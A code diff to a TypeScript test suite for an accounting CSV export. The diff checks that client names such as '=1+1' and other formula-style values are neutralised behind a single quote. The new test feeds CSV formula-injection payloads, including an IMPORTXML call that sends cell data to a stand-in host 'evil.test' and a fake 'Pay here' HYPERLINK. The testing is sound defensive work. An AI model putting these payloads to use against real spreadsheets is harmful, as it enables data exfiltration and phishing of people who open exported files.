@@ -1,6 +1,7 @@
 // Export for accounting on the built bundle: the three tabs in the vendors' layouts for a date range,
-// every cell plain text (names typed "=1+1" stay text, dates never become date cells), rewritten whole
-// by the next export, archived months exported the same, and bad dates refused with nothing changed.
+// every cell plain text (names typed "=1+1" stay text; dates never become date cells), every cell that
+// would start a formula in the downloaded CSV behind a single quote (amounts left numbers), rewritten
+// whole by the next export, archived months exported the same, and bad dates refused with nothing changed.
 import { FORTNIGHTLY_RESET, newStudio, ok, type Studio, setSetting } from '../support/studio';
 
 const TABS = ['Xero Invoices', 'Xero Payments', 'QuickBooks Invoices'];
@@ -53,7 +54,7 @@ describe('Export for accounting', () => {
     const pick = (r: string[]) => [r[0], r[1], r[10], r[12], r[13], r[15], r[16], r[17], r[19], r[20]];
     expect(xero.slice(1).map(pick)).toEqual([
       [
-        '=1+1',
+        "'=1+1",
         'ann@example.com',
         '5',
         '2026-02-02',
@@ -77,7 +78,7 @@ describe('Export for accounting', () => {
         'GST Free Income',
       ],
       [
-        '=1+1',
+        "'=1+1",
         'ann@example.com',
         '7',
         '2026-02-16',
@@ -103,16 +104,16 @@ describe('Export for accounting', () => {
     ]);
     expect(csv(studio, 'Xero Payments')).toEqual([
       ['*Date', '*Amount', 'Payee', 'Description', 'Reference', 'Cheque Number'],
-      ['2026-02-02', '60.50', '=1+1', 'Payment of invoice 5 (Card)', '5', ''],
+      ['2026-02-02', '60.50', "'=1+1", 'Payment of invoice 5 (Card)', '5', ''],
       ['2026-02-02', '300.00', 'Ben Okafor', 'Payment of invoice 6 (Card)', '6', ''],
-      ['2026-02-16', '60.50', '=1+1', 'Payment of invoice 7 (Card)', '7', ''],
+      ['2026-02-16', '60.50', "'=1+1", 'Payment of invoice 7 (Card)', '7', ''],
       ['2026-02-16', '300.00', 'Ben Okafor', 'Payment of invoice 8 (Card)', '8', ''],
     ]);
     const qbo = csv(studio, 'QuickBooks Invoices');
     expect(qbo[0][0]).toBe('InvoiceNo');
     expect(qbo[1]).toEqual([
       '5',
-      '=1+1',
+      "'=1+1",
       '2026-02-02',
       '2026-02-02',
       '',
@@ -203,5 +204,54 @@ describe('Export for accounting', () => {
     expect(sidebar.title).toBe('Export for accounting');
     expect(sidebar.content).toContain('2026-03-03');
     expect(sidebar.content).toContain('exportForAccounting');
+  });
+});
+
+describe('Exports safe to open (issue 28, finding 9)', () => {
+  const NAMES = [
+    '=IMPORTXML("http://evil.test/?"&A1,"//a")',
+    '=HYPERLINK("http://evil.test","Pay here")',
+    '+1',
+    '-1',
+    '@x',
+  ];
+
+  it('no cell of the downloaded CSV starts a formula: names behind a single quote, amounts numbers', () => {
+    const studio = newStudio();
+    const day = '2026-02-02';
+    const pkg = ok(studio.call(day, 'savePackage', { ...FORTNIGHTLY_RESET, name: '=1+1 Reformer' })).package;
+    for (const name of NAMES) {
+      const client = ok(studio.call(day, 'saveClient', { name })).client;
+      ok(studio.call(day, 'sellPackage', { clientId: client.id, packageId: pkg.id, startDate: day }));
+    }
+    for (const inv of studio.dump('Invoices').Invoices) {
+      const amount = Math.round(Number(inv.Amount) * 100);
+      ok(studio.call(day, 'recordPayment', { invoiceNo: inv['Invoice No'], amount, method: 'card' }));
+    }
+    ok(studio.call('2026-02-03', 'exportForAccounting', { from: '2026-02-01', to: '2026-02-28' }));
+    const starts = /^[=+\-@\t\r]/;
+    const plainNumber = /^-?\d+(\.\d+)?$/;
+    for (const tab of TABS) {
+      const rows = csv(studio, tab);
+      const running = rows.flat().filter((cell) => starts.test(cell) && !plainNumber.test(cell));
+      expect({ tab, running }).toEqual({ tab, running: [] });
+    }
+    expect(
+      csv(studio, 'Xero Invoices')
+        .slice(1)
+        .map((r) => r[0]),
+    ).toEqual(NAMES.map((n) => `'${n}`));
+    expect(csv(studio, 'QuickBooks Invoices')[1].slice(6, 11)).toEqual([
+      "'=1+1 Reformer",
+      "'=1+1 Reformer: period 1, 2 Feb 2026",
+      '1',
+      '300.00',
+      '300.00',
+    ]);
+    expect(
+      csv(studio, 'Xero Payments')
+        .slice(1)
+        .map((r) => [r[1], r[2]]),
+    ).toEqual(NAMES.map((n) => ['300.00', `'${n}`]));
   });
 });
